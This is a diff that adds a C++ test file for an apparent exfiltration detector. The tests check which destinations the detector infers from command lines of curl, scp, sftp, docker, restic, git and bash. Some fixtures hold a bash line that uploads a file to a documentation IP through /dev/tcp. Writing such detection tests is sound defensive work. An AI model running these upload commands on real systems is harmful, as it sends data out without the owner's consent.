@@ -1,0 +1,90 @@
+#include "host_with_cron.hpp"
+
+/// Logs that hold programs and no connections: what the command lines alone tell.
+namespace auexfil::test {
+namespace {
+
+/// "tool direction host:port, …" of each fact.
+std::string told(const std::vector<facts::Fact>& facts) {
+  std::string text;
+  for (const facts::Fact& fact : facts) {
+    text += (text.empty() ? "" : "; ") + fact.tool + " " + to_word(fact.direction);
+    for (const facts::Destination& d : fact.destinations) {
+      text += " " + (d.address ? d.address->to_string() : d.name.value_or("?"));
+      text += d.port ? ":" + std::to_string(*d.port) : std::string{};
+    }
+  }
+  return text;
+}
+
+std::string run_alone(const std::string& exe, const std::vector<std::string>& argv) {
+  CronHost log("", only({"execve", "clone"}));
+  log.tool(exe, argv);
+  return told(tell(log));
+}
+
+}  // namespace
+
+TEST_CASE("argv only: the destination has the port that its command line tells") {
+  const auto row = GENERATE(table<std::string, std::vector<std::string>, std::string>({
+      {"/usr/bin/sftp", {"sftp", "-P", "2222", "u@203.0.113.9"}, "sftp unknown 203.0.113.9:2222"},
+      {"/usr/bin/curl", {"curl", "-T", "f", "https://h.example/"}, "curl out h.example:443"},
+      {"/usr/bin/scp", {"scp", "f", "a.example:", "-P", "22"}, "scp out a.example:22"},
+      {"/usr/bin/scp", {"scp", "-3", "a.example:f", "b.example:"}, "scp both a.example b.example"},
+      {"/usr/bin/curl", {"curl", "-T", "f", "http://127.1/"}, ""},
+      {"/usr/bin/curl", {"curl", "-T", "f", "http://0.0.0.0:8080/"}, ""},
+      {"/usr/bin/curl", {"curl", "-T", "f", "http://localhost.localdomain/"}, ""},
+      {"/usr/bin/curl", {"curl", "-T", "f", "http://x.localhost/"}, ""},
+      {"/usr/bin/scp", {"scp", "f", "ip6-localhost:"}, ""},
+      {"/usr/bin/curl", {"curl", "--unix-socket", "/run/x", "-d@f", "http://docker/"}, ""},
+      {"/usr/bin/docker", {"docker", "push", "localhost:5000/x"}, ""},
+      {"/usr/bin/docker", {"docker", "push", "me/x"}, "docker out docker.io"},
+      {"/usr/bin/restic", {"restic", "backup", "/etc"}, "restic out ?"},
+  }));
+  const auto& [exe, argv, wanted] = row;
+  CAPTURE(argv);
+  CHECK(run_alone(exe, argv) == wanted);
+}
+
+TEST_CASE("argv only: where no host is named the fact says so") {
+  CronHost log("", only({"execve", "clone"}));
+  log.tool("/usr/bin/restic", {"restic", "backup", "/etc"});
+  log.tool("/usr/bin/npm", {"npm", "publish"});
+  const auto facts = tell(log);
+  REQUIRE(facts.size() == 2);
+  CHECK(has_note(facts[0], "settings of its own say where to"));
+  CHECK(has_note(facts[1], "registry.npmjs.org is where it goes unless set up otherwise"));
+}
+
+TEST_CASE("argv only: git pushes where its helper is told to") {
+  CronHost log("", only({"execve", "clone"}));
+  const int git = log.tool("/usr/bin/git", {"git", "push", "origin", "main"});
+  log.run(git, git + 1, "/usr/bin/ssh",
+          {"ssh", "-p", "2222", "git@h.example", "git-receive-pack 'r'"});
+  CHECK(told(tell(log)) == "git out h.example:2222");
+}
+
+TEST_CASE("argv only: of shells in shells the one that does it counts") {
+  CronHost log("", only({"execve", "clone"}));
+  const std::string inner = "cat f > /dev/tcp/203.0.113.9/9001";
+  const int outer = log.tool("/usr/bin/bash", {"bash", "-c", "bash -c '" + inner + "'"});
+  log.run(outer, outer + 1, "/usr/bin/bash", {"bash", "-c", inner});
+  const auto facts = tell(log);
+  CHECK(told(facts) == "dev-tcp out 203.0.113.9:9001");
+  REQUIRE(facts.size() == 1);
+  CHECK(facts[0].process.pid == static_cast<std::uint32_t>(outer + 1));
+}
+
+TEST_CASE("argv only: a shell whose connections are in the log is told by these") {
+  CronHost log;
+  const int shell = log.tool("/usr/bin/bash", {"bash", "-c", "cat f > /dev/tcp/203.0.113.9/9001"});
+  log.tcp(shell, 3, "203.0.113.9", 9001);
+  log.upload(shell, 3, 100000);
+  log.close(shell, 3);
+  const auto facts = tell(log);
+  REQUIRE(facts.size() == 1);
+  CHECK(facts[0].tool == "other");
+  CHECK(told(facts) == "other out 203.0.113.9:9001");
+}
+
+}  // namespace auexfil::test
